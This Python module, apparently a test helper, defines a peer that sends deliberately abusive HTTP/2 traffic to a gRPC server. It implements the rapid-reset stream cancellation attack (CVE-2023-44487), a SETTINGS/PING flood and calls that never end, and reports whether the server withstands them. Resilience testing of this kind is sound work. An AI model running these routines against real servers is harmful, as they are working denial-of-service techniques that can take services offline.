"""A peer that speaks HTTP/2 as no client does."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from contextlib import contextmanager, suppress

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.exceptions import ProtocolError
from h2.settings import SettingCodes

SECONDS = 60.0


class HostilePeer:
    """A connection to a gRPC server, frame by frame."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._address = address
        self._socket = socket.create_connection((host, int(port)), timeout=SECONDS)
        self._connection = H2Connection(H2Configuration(validate_outbound_headers=False))
        self._connection.initiate_connection()
        self._flush()

    def reset_at_once(self, path: str, count: int) -> int:
        """Begin calls and cancel each at once (CVE-2023-44487); return how many the server took."""
        for number in range(count):
            try:
                stream = self._begin(path)
                self._connection.reset_stream(stream, ErrorCodes.CANCEL)
                if number % 50 == 0:
                    self._flush()
            except (OSError, ProtocolError):
                return number
        with suppress(OSError):
            self._flush()
        return count

    def send_settings(self, count: int) -> bool:
        """Send settings, each of which must be acknowledged; return whether the server took them all."""
        try:
            for number in range(count):
                self._connection.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 65_536 + number % 2})
                self._connection.ping(b"hostile!")
                self._flush()
        except OSError:
            return False
        return True

    def begin(self, path: str, **headers: str) -> None:
        """Begin a call and never end it."""
        self._begin(path, **headers)
        self._flush()

    def closed(self) -> bool:
        """Wait for the server to close the connection; return False if it does not."""
        try:
            while self._socket.recv(65_536):
                pass
        except TimeoutError:
            return False
        except OSError:
            return True
        return True

    def close(self) -> None:
        """Close the connection."""
        self._socket.close()

    def _begin(self, path: str, **headers: str) -> int:
        stream: int = self._connection.get_next_available_stream_id()
        needed = {":method": "POST", ":scheme": "http", ":path": path, ":authority": self._address, "te": "trailers"}
        self._connection.send_headers(stream, [*needed.items(), ("content-type", "application/grpc"), *headers.items()])
        return stream

    def _flush(self) -> None:
        self._socket.sendall(self._connection.data_to_send())


@contextmanager
def hostile_peer(address: str) -> Iterator[HostilePeer]:
    """Connect to "host:port"."""
    peer = HostilePeer(address)
    try:
        yield peer
    finally:
        peer.close()
